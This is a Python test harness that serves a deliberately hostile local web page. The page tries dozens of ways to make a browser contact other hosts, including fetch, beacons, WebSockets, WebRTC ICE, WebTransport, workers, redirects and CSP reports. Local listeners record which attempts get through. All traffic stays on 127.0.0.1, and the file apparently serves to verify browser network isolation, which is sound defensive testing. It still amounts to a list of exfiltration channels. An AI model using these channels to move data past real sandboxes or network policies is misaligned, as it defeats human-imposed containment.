"""A hostile page that tries every way out of a browser, and listeners elsewhere that hear of those that work.

A way names itself in the path that it asks for; one that has no path has a port of its own.
"""

import json
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote, unquote, urlsplit

Answer = tuple[int, dict[str, str], str]      # status, headers, body


def redirected(name: str) -> str:
    return f"{name}, redirected"


# Each is tried twice: `url` is an address elsewhere, or one of the page's own site that redirects there.
BY_ADDRESS = {
    "script": "add('script', {src: url})",
    "module": "import(url).catch(no)",
    "style": "add('link', {rel: 'stylesheet', href: url})",
    "import of a style": "add('style', {textContent: `@import url(${url})`})",
    "image": "new Image().src = url",
    "font": "new FontFace('f', `url(${url})`).load().catch(no)",
    "video": "add('video', {src: url})",
    "fetch": "fetch(url, {mode: 'no-cors'}).catch(no)",
    "fetch with cors": "fetch(url).catch(no)",
    "fetch that outlives": "fetch(url, {keepalive: true, mode: 'no-cors', method: 'POST', body: 'x'}).catch(no)",
    "xhr": "const xhr = new XMLHttpRequest(); xhr.open('GET', url); xhr.send()",
    "frame": "add('iframe', {src: url})",
    "object": "add('object', {data: url})",
    "embed": "add('embed', {src: url})",
    "popup": "open(url)",
    "beacon": "navigator.sendBeacon(url, 'x')",
    "prefetch": "add('link', {rel: 'prefetch', href: url})",
    "preload": "add('link', {rel: 'preload', as: 'script', href: url})",
    "preload of a module": "add('link', {rel: 'modulepreload', href: url})",
    "speculation": "add('script', {type: 'speculationrules', "
    "textContent: JSON.stringify({prefetch: [{urls: [url], eagerness: 'immediate'}]})})",
    "icon": "add('link', {rel: 'icon', href: url})",
    "event source": "new EventSource(url)",
    "form": "add('iframe', {name: url}); add('form', {method: 'post', action: url, target: url}).submit()",
    "refresh of a frame": "add('iframe', {srcdoc: `<meta http-equiv=refresh content='0;url=${url}'>`})",
    "script of a frame": "add('iframe', {srcdoc: `<script>location = '${url}'<\\/script>`})",
    "ping": "add('a', {href: '#', ping: url}).click()",
    "download": "add('iframe', {srcdoc: `<a href='${url}' download></a>"
    "<script>document.links[0].click()<\\/script>`})",
    "worklet": "CSS.paintWorklet.addModule(url).catch(no)",
    "worker": "new Worker(url)",
    "fetch of a worker": "work(`fetch('${url}', {mode: 'no-cors'}).catch(() => 0)`)",
    "script of a worker": "work(`importScripts('${url}')`)",
    "fetch of a shared worker": "share(`fetch('${url}', {mode: 'no-cors'}).catch(() => 0)`)",
    "fetch of a service worker": "serve(`fetch('${url}', {mode: 'no-cors'}).catch(() => 0)`)",
    "report": "add('iframe', {src: '/reports?' + encodeURIComponent(url)})",
}
BY_SOCKET = {
    "websocket": "new WebSocket(url)",
    "websocket of a worker": "work(`new WebSocket('${url}')`)",
    "websocket of a shared worker": "share(`new WebSocket('${url}')`)",
    "websocket of a service worker": "serve(`new WebSocket('${url}')`)",
    "websocket stream": "new WebSocketStream(url).opened.catch(no)",
}
BY_PORT = {
    "preconnect": "add('link', {rel: 'preconnect', href: `http://127.0.0.1:${port}/`})",
    "stun": "ice({urls: `stun:127.0.0.1:${port}`})",
    "turn": "ice({urls: `turn:127.0.0.1:${port}?transport=udp`, username: 'x', credential: 'x'})",
    "turn over tcp": "ice({urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'x', credential: 'x'})",
    "turn over tls": "ice({urls: `turns:127.0.0.1:${port}?transport=tcp`, username: 'x', credential: 'x'})",
    "peer": "peer(`candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host`)",
    "peer over tcp": "peer(`candidate:1 1 tcp 1518280447 127.0.0.1 ${port} typ host tcptype passive`)",
    "webtransport": "new WebTransport(`https://127.0.0.1:${port}/`).ready.catch(no)",
    "webtransport of a worker": "work(`new WebTransport('https://127.0.0.1:${port}/').ready.catch(() => 0)`)",
}
SCRIPT = """
const no = () => 0;
const add = (kind, settings) => document.body.appendChild(Object.assign(document.createElement(kind), settings));
const work = code => new Worker(URL.createObjectURL(new Blob([code])));
const share = code => new SharedWorker('/script?' + encodeURIComponent(code));
const serve = code => ServiceWorkerContainer.prototype.register.call(
    navigator.serviceWorker, '/script?' + encodeURIComponent(code), {scope: '/' + Math.random()}).catch(no);
const ice = async server => {
    const connection = new RTCPeerConnection({iceServers: [server]});
    connection.createDataChannel('x');
    await connection.setLocalDescription();
};
const peer = async candidate => {
    const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
    here.createDataChannel('x');
    await here.setLocalDescription();
    await there.setRemoteDescription(here.localDescription);
    await there.setLocalDescription();
    await here.setRemoteDescription(there.localDescription);
    await here.addIceCandidate({candidate, sdpMLineIndex: 0});
};
const errors = {};
const attempt = async (name, code) => { try { await code() } catch (error) { errors[name] = String(error) } };
"""
WAYS = [*(name for way in BY_ADDRESS for name in (way, redirected(way))), *BY_SOCKET, *BY_PORT]
# What does not come through where every host may be reached: WebRTC and WebTransport by UDP, and what Chromium or
# Playwright themselves hold back.
HELD_ANYWAY = {
    *("stun", "turn", "peer", "webtransport", "webtransport of a worker", "preconnect", redirected("report")),
    *("websocket of a service worker", "fetch of a service worker", redirected("fetch of a service worker")),
    *(name for way in ("worker", "icon", "speculation") for name in (way, redirected(way))),
}
# What a visit does not even begin to load, from the site itself.
NOT_LOADED = ("image", "font", "video", "icon", "speculation", "fetch of a service worker")


class Elsewhere:
    """Servers that have no business with the page. `heard` names the ways by which it came to them."""

    def __init__(self, open_sockets: ExitStack) -> None:
        self.heard: set[str] = set()
        self._open = open_sockets
        self.base_url = serve(open_sockets, self._answer)
        self.ports = {name: self._listen(name) for name in BY_PORT}

    def _answer(self, path: str) -> Answer:
        self.heard.add(unquote(path[1:]))
        return 200, {"Access-Control-Allow-Origin": "*"}, ""

    def _listen(self, name: str) -> int:
        """A port for TCP and UDP."""
        stream = self._open.enter_context(socket.create_server(("127.0.0.1", 0)))
        packets = self._open.enter_context(socket.socket(type=socket.SOCK_DGRAM))
        port: int = stream.getsockname()[1]
        packets.bind(("127.0.0.1", port))
        for wait in (lambda: stream.accept()[0].close(), lambda: packets.recv(1)):
            threading.Thread(target=self._hear, args=(name, wait), daemon=True).start()
        return port

    def _hear(self, name: str, wait: Callable[[], object]) -> None:
        with suppress(OSError):     # closed at the end
            wait()
            self.heard.add(name)


class HostileSite:
    """The site of the page. `asked` is what was asked of it."""

    def __init__(self, open_sockets: ExitStack, elsewhere: Elsewhere) -> None:
        self.asked: set[str] = set()
        self._elsewhere = elsewhere
        self.base_url = serve(open_sockets, self._answer)

    def _answer(self, path: str) -> Answer:
        self.asked.add(unquote(path[1:]))
        parts = urlsplit(path)
        said = unquote(parts.query)
        if parts.path.startswith("/via/"):
            return 302, {"Location": f"{self._elsewhere.base_url}/{parts.path.removeprefix('/via/')}"}, ""
        if parts.path == "/script":
            return 200, {"Content-Type": "text/javascript"}, said
        if parts.path == "/reports":
            return 200, {"Content-Security-Policy": f"img-src 'none'; report-uri {said}"}, "<img src=/x>"
        if parts.path == "/leaves":
            return 200, {}, said
        return 200, {}, f"<!DOCTYPE html><body><script>{SCRIPT}{''.join(self._attempts())}</script>"

    def _attempts(self) -> Iterator[str]:
        there, here = self._elsewhere.base_url, self.base_url
        for name, code in BY_ADDRESS.items():
            yield attempt(name, f"const url = '{there}/{quote(name)}'; {code}")
            yield attempt(name, f"const url = '{here}/via/{quote(redirected(name))}'; {code}")
        for name, code in BY_SOCKET.items():
            yield attempt(name, f"const url = 'ws{there.removeprefix('http')}/{quote(name)}'; {code}")
        for name, code in BY_PORT.items():
            yield attempt(name, f"const port = {self._elsewhere.ports[name]}; {code}")


def attempt(name: str, code: str) -> str:
    return f"attempt({json.dumps(name)}, async () => {{ {code} }});\n"


def serve(open_sockets: ExitStack, answer: Callable[[str], Answer]) -> str:
    """The base address of a server that answers paths."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            status, headers, body = answer(self.path)
            content = body.encode()
            self.send_response(status)
            for name, value in ({"Content-Type": "text/html", "Content-Length": str(len(content))} | headers).items():
                self.send_header(name, value)
            self.end_headers()
            with suppress(ConnectionError):
                self.wfile.write(content)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  the base class names it
            pass

    server = open_sockets.enter_context(ThreadingHTTPServer(("127.0.0.1", 0), Handler))
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    open_sockets.callback(server.shutdown)
    return f"http://127.0.0.1:{server.server_port}"
